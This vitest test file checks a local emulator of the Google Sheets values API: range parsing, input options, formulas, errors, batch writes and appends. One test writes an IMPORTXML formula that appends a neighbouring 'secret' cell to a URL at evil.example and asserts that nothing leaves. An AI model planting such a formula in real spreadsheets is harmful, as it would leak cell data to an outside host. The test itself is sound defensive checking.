import { expect, test } from 'vitest'

import { openDoor } from './door.ts'

test('an empty range has no values member at all', async () => {
  const door = openDoor()
  const { body } = await door.call('GET', '/values/A1:D2')
  expect(body).toEqual({ range: 'Sheet1!A1:D2', majorDimension: 'ROWS' })
})

test('empty cells and rows at the end are left out, those within are kept as "" and []', async () => {
  const door = openDoor([['a', null, 'c', null], [], ['x'], []])
  expect(await door.values('A1:F9')).toEqual([['a', '', 'c'], [], ['x']])
})

test('RAW keeps text as it is, formulas and dates included', async () => {
  const door = openDoor()
  await door.put('A1', [['=1+1', '2020-01-01', '0042', 7, true, "'x"]])
  expect(await door.values('A1:F1', '?valueRenderOption=UNFORMATTED_VALUE')).toEqual([
    ['=1+1', '2020-01-01', '0042', 7, true, "'x"],
  ])
})

test('USER_ENTERED reads numbers, percents, dates, times, booleans and formulas', async () => {
  const door = openDoor()
  await door.put(
    'A1',
    [['=1+1', '2020-01-01', '0042', '12.5%', 'true', "'007", '6:00 PM', '1/2/2024 12:00']],
    'USER_ENTERED',
  )
  expect(await door.values('A1:H1', '?valueRenderOption=UNFORMATTED_VALUE')).toEqual([
    [2, 43831, 42, 0.125, true, '007', 0.75, 45293.5],
  ])
  expect(await door.values('A1:H1')).toEqual([
    ['2', '2020-01-01', '42', '12.50%', 'TRUE', '007', '6:00 PM', '1/2/2024 12:00'],
  ])
})

test('a phone number typed with + becomes a broken formula, which RAW avoids', async () => {
  const door = openDoor()
  await door.put('A1', [['+49 30 901820']], 'USER_ENTERED')
  await door.put('A2', [['+49 30 901820']], 'RAW')
  expect(await door.values('A1:A2')).toEqual([['#ERROR!'], ['+49 30 901820']])
})

test('an import formula reaches nothing outside', async () => {
  const door = openDoor()
  await door.put('A1', [['=IMPORTXML("https://evil.example/?"&B1,"//a")', 'secret']], 'USER_ENTERED')
  expect(await door.values('A1')).toEqual([['#N/A']])
  expect(door.sent).toEqual([])
})

test('formulas follow their cells: values recalculate, FORMULA shows the text', async () => {
  const door = openDoor([['Ada', 'Lovelace']])
  await door.put('C1', [['=UPPER(A1)&" "&B1', '=SUM(E1:F1)', 2, 3, '=CONCATENATE(A1,"-",D1)']], 'USER_ENTERED')
  expect(await door.values('C1:G1')).toEqual([['ADA Lovelace', '5', '2', '3', 'Ada-5']])
  await door.put('A1', [['Eva']])
  expect(await door.values('C1')).toEqual([['EVA Lovelace']])
  expect(await door.values('C1', '?valueRenderOption=FORMULA')).toEqual([['=UPPER(A1)&" "&B1']])
})

test('a circle of formulas gives #REF!, a division by zero #DIV/0!, an unknown function #NAME?', async () => {
  const door = openDoor()
  await door.put('A1', [['=B1', '=A1', '=1/0', '=NOSUCH(1)']], 'USER_ENTERED')
  expect(await door.values('A1:D1')).toEqual([['#REF!', '#REF!', '#DIV/0!', '#NAME?']])
})

test('null skips a cell, "" clears it and counts', async () => {
  const door = openDoor([['a', 'b', 'c']])
  const { body } = await door.put('A1:C1', [[null, '', 'z']])
  expect(body).toMatchObject({ updatedRange: 'Sheet1!A1:C1', updatedColumns: 3, updatedCells: 2 })
  expect(await door.values('A1:C1')).toEqual([['a', '', 'z']])
})

test('ranges are clipped, turned round and quoted as Google does', async () => {
  const door = openDoor()
  const echo = async (range: string) => (await door.call('GET', `/values/${encodeURIComponent(range)}`)).body
  expect(await echo("'Sheet1'!A2:2")).toMatchObject({ range: 'Sheet1!A2:Z2' })
  expect(await echo('Sheet1')).toMatchObject({ range: 'Sheet1!A1:Z1000' })
  expect(await echo('D4:A1')).toMatchObject({ range: 'Sheet1!A1:D4' })
  expect(await echo('B3:C')).toMatchObject({ range: 'Sheet1!B3:C1000' })
  await door.batch({ updateSheetProperties: { properties: { title: "It's D3" }, fields: 'title' } })
  expect(await echo("'It''s D3'!A1")).toMatchObject({ range: "'It''s D3'!A1" })
})

test('a range that cannot be read or lies beyond the grid is refused in Google’s words', async () => {
  const door = openDoor()
  expect(await door.call('GET', '/values/Nowhere!A1')).toEqual({
    status: 400,
    body: { error: { code: 400, message: 'Unable to parse range: Nowhere!A1', status: 'INVALID_ARGUMENT' } },
  })
  const message = 'Range (Sheet1!A1001) exceeds grid limits. Max rows: 1000, max columns: 26'
  expect(await door.put('A1001', [['x']])).toMatchObject({ status: 400, body: { error: { message } } })
})

test('a batch of writes counts rows and columns once, and one bad range stops them all', async () => {
  const door = openDoor()
  const data = [
    { range: 'A1:B1', values: [[1, 2]] },
    { range: 'A3:B3', values: [[3, 4]] },
  ]
  const { body } = await door.call('POST', '/values:batchUpdate', { valueInputOption: 'RAW', data })
  expect(body).toMatchObject({
    totalUpdatedRows: 2,
    totalUpdatedColumns: 2,
    totalUpdatedCells: 4,
    totalUpdatedSheets: 1,
  })
  const bad = [
    { range: 'A1', values: [['gone']] },
    { range: 'Nope!A1', values: [['x']] },
  ]
  expect((await door.call('POST', '/values:batchUpdate', { valueInputOption: 'RAW', data: bad })).status).toBe(400)
  expect(await door.values('A1')).toEqual([['1']])
})

test('valueInputOption is required and a cell holds 50,000 characters at most', async () => {
  const door = openDoor()
  expect((await door.call('PUT', '/values/A1', { values: [['x']] })).status).toBe(400)
  expect((await door.put('A1', [['x'.repeat(50_000)]])).status).toBe(200)
  expect((await door.put('A1', [['x'.repeat(50_001)]])).status).toBe(400)
})

test('an append goes below the last table of the range, even when that starts in another column', async () => {
  const door = openDoor()
  const append = (range: string, values: unknown, query = '') =>
    door.call('POST', `/values/${range}:append?valueInputOption=RAW${query}`, { values })
  expect((await append('Sheet1', [['a', '', 'c']])).body).not.toHaveProperty('tableRange')
  expect((await append('Sheet1', [['d', 'e']])).body).toMatchObject({
    tableRange: 'Sheet1!C1',
    updates: { updatedRange: 'Sheet1!C2:D2' },
  })
})

test('append overwrites what lies below the table unless rows are inserted', async () => {
  const rows = [['a', 'b'], ['c', 'd'], [], ['note']]
  const door = openDoor(rows)
  const append = (query: string) =>
    door.call('POST', `/values/A1:append?valueInputOption=RAW${query}`, { values: [[1], [2]] })
  await append('&insertDataOption=INSERT_ROWS')
  expect(await door.values('A1:B9')).toEqual([['a', 'b'], ['c', 'd'], ['1'], ['2'], [], ['note']])
  await append('')
  expect(await door.values('A1:A9')).toEqual([['a'], ['c'], ['1'], ['2'], ['1'], ['2']])
})
